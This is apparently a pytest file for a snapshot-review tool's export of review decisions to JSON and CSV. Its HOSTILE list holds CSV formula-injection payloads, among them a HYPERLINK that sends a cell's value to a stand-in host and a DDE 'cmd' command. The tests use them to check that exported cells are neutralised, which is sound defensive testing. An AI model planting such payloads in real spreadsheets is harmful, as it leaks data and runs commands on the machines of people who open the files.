"""What was decided, as JSON for programs and as CSV for spreadsheets."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from snapreview.export.decisions import decisions_csv, decisions_json, write_decisions
from snapreview.export.json_stream import dump_json, stream_json
from snapreview.export.table import table
from snapreview.model.change import Change, ImageDiff, Status
from snapreview.model.decision import Decision, Verdict
from snapreview.model.errors import ExportError
from snapreview.model.manifest import ImageRecord

from .makers import comparison

BASE = ImageRecord("a.png", sha256="b" * 64)
HEAD = ImageRecord("a.png", sha256="c" * 64)
ROWS = (
    Change("same.png", Status.UNCHANGED, BASE, BASE),
    Change("kept.png", Status.UNCHANGED, BASE, BASE),
    Change("skipped.png", Status.SKIPPED, BASE),
    Change("subtle.png", Status.UNCHANGED, BASE, HEAD, ImageDiff((10, 10), subtle_pixels=7)),
    Change("moved.png", Status.RENAMED, BASE, HEAD, previous_name="was.png"),
    Change("new.png", Status.ADDED, head=ImageRecord("new.png")),
    Change("gone.png", Status.REMOVED, BASE),
    Change("bad.png", Status.ERRORED, BASE, HEAD, error="It is damaged."),
    Change("a.png", Status.CHANGED, BASE, HEAD, ImageDiff((10, 10), 5)),
)
WHEN = "2026-03-05T14:02:11Z"
DECISIONS = {
    "a.png": Decision(Verdict.REJECTED, 'The "shadow" is gone;\nbring it back.', WHEN),
    "gone.png": Decision(Verdict.APPROVED, "", WHEN),
    "kept.png": Decision(note="Why is this here?", decided=WHEN),
    "bad.png": Decision(decided=WHEN),  # said, and taken back
    "of another comparison.png": Decision(Verdict.APPROVED, "", WHEN),
}
LISTED = ["a.png", "bad.png", "gone.png", "new.png", "moved.png", "subtle.png", "kept.png"]


def as_json(*arguments) -> dict:
    return json.loads(b"".join(decisions_json(*arguments)))


def as_rows(*arguments) -> list[dict[str, str]]:
    text = b"".join(decisions_csv(*arguments)).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_all_that_waits_for_a_word_is_listed_and_all_that_has_one() -> None:
    listed = as_json(comparison(ROWS), DECISIONS)["decisions"]
    assert [row["name"] for row in listed] == LISTED
    assert [row["name"] for row in as_rows(comparison(ROWS), DECISIONS)] == LISTED
    assert [row["name"] for row in as_json(comparison(ROWS))["decisions"]] == LISTED[:-1]


def test_json_has_every_field() -> None:
    document = as_json(comparison(ROWS), DECISIONS)
    decisions = document.pop("decisions")
    assert decisions[0] == {
        "name": "a.png",
        "status": "changed",
        "verdict": "rejected",
        "note": 'The "shadow" is gone;\nbring it back.',
        "decided": WHEN,
        "previous_name": None,
        "base_hash": "b" * 64,
        "head_hash": "c" * 64,
        "diff_ratio": 0.05,
        "subtle_pixels": 0,
    }
    rows = {row["name"]: row for row in decisions}
    assert (rows["bad.png"]["verdict"], rows["bad.png"]["decided"]) == ("unreviewed", None)
    assert (rows["kept.png"]["verdict"], rows["kept.png"]["note"]) == (
        "unreviewed",
        "Why is this here?",
    )
    assert rows["moved.png"]["previous_name"] == "was.png"
    assert (rows["new.png"]["base_hash"], rows["new.png"]["head_hash"]) == (None, None)
    assert rows["subtle.png"]["subtle_pixels"] == 7
    assert document["summary"] == {"total": 7, "approved": 1, "rejected": 1, "unreviewed": 5}
    assert document["schema"] == 1
    assert document["head"] == {"source": "new", "snapshot_id": "2", "image_count": 2}


def test_the_table_says_the_same_in_cells() -> None:
    rows = {row["name"]: row for row in as_rows(comparison(ROWS), DECISIONS)}
    for row in as_json(comparison(ROWS), DECISIONS)["decisions"]:
        cells = {key: "" if value is None else str(value) for key, value in row.items()}
        assert rows[row["name"]] == cells


def test_excel_takes_the_table_for_what_it_is() -> None:
    """It needs the mark at the start to see UTF-8, and lines as Windows ends them."""
    text = b"".join(decisions_csv(comparison([replace(ROWS[-1], name="Grüße ☕.png")])))
    assert text.startswith(b"\xef\xbb\xbfname,status,verdict,note,")
    assert text.count(b"\r\n") == 2
    assert "Grüße ☕.png" in text.decode("utf-8-sig")


HOSTILE = [
    '=HYPERLINK("http://x.invalid?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
    "harmless;=1+1",
    'harmless;"=1+1"',
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_or_a_note_is_never_a_formula(name: str) -> None:
    row = replace(ROWS[-1], name=f"{name}.png", previous_name=name)
    (cells,) = as_rows(comparison([row]), {row.name: Decision(note=name)})
    for key in ("name", "note", "previous_name"):
        assert cells[key][0] not in "=+-@\t\r＝"
        assert cells[key].replace("'", "").startswith(name.replace("'", ""))
    (exact,) = as_json(comparison([row]), {row.name: Decision(note=name)})["decisions"]
    assert (exact["name"], exact["note"]) == (row.name, name)


@given(st.lists(st.lists(st.text(), min_size=2, max_size=4), max_size=4))
def test_whatever_is_in_a_cell_stays_in_it(rows: list[list[str]]) -> None:
    text = b"".join(table(["a"], rows)).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [len(row) for row in read] == [len(row) for row in rows]
    for cells, wanted in zip(read, rows, strict=True):
        for cell, value in zip(cells, wanted, strict=True):
            assert cell.replace("'", "") == value.replace("'", "")
            assert cell[:1] not in set("=+-@\t\r\n＝＋－＠")


LINES = st.text(st.sampled_from("ab \"';,=+@-"), max_size=12)


@given(st.lists(LINES, min_size=1, max_size=4))
def test_no_cell_is_a_formula_either_where_a_semicolon_divides(cells: list[str]) -> None:
    """As in a spreadsheet of most of Europe, which is not asked how a file was meant."""
    text = b"".join(table(["a"], [cells])).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
        assert all(cell[:1] not in set("=+-@") for cell in row)


@given(
    st.dictionaries(st.text(max_size=3), st.text(max_size=5), max_size=2),
    st.lists(st.dictionaries(st.text(max_size=3), st.lists(st.integers()), max_size=3), max_size=3),
    st.dictionaries(st.text(max_size=3), st.text(max_size=5), max_size=2),
)
def test_json_in_pieces_is_what_it_would_be_in_one(before, items, after) -> None:
    before.pop("the list", None)
    after = {key: value for key, value in after.items() if key not in {*before, "the list"}}
    pieces = stream_json(before, "the list", iter(items), after)
    assert b"".join(pieces) == dump_json({**before, "the list": items, **after})


@pytest.mark.parametrize("as_csv", [True, False])
def test_a_file_is_written_whole_or_not_at_all(tmp_path: Path, as_csv: bool) -> None:
    target = tmp_path / "decisions"
    target.write_text("old")
    with pytest.raises(ValueError, match="nothing to write"):
        write_decisions(target, _Torn(comparison(ROWS)), as_csv=as_csv)
    assert target.read_text() == "old"
    assert write_decisions(target, comparison(ROWS), DECISIONS, as_csv=as_csv) == 7
    wanted = (decisions_csv if as_csv else decisions_json)(comparison(ROWS), DECISIONS)
    assert target.read_bytes() == b"".join(wanted)
    assert list(tmp_path.iterdir()) == [target]
    with pytest.raises(ExportError, match="folder does not exist"):
        write_decisions(tmp_path / "gone" / "file", comparison(ROWS), as_csv=as_csv)


class _Torn:
    """A comparison that breaks when its rows are asked for."""

    def __init__(self, whole) -> None:
        self._whole = whole

    def __getattr__(self, name: str):
        if name == "changes":
            raise ValueError("nothing to write")
        return getattr(self._whole, name)


@pytest.mark.parametrize("as_csv", [True, False])
def test_ten_thousand_rows_take_the_memory_of_few(tmp_path: Path, as_csv: bool) -> None:
    rows = [replace(ROWS[-1], name=f"screens/{n:06}.png") for n in range(10_000)]
    whole = comparison(rows)
    decisions = {row.name: Decision(Verdict.APPROVED, "x" * 400, WHEN) for row in rows[::2]}
    tracemalloc.start()
    try:
        write_decisions(tmp_path / "file", whole, decisions, as_csv=as_csv)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert (tmp_path / "file").stat().st_size > 3_700_000
    assert peak < 2_500_000
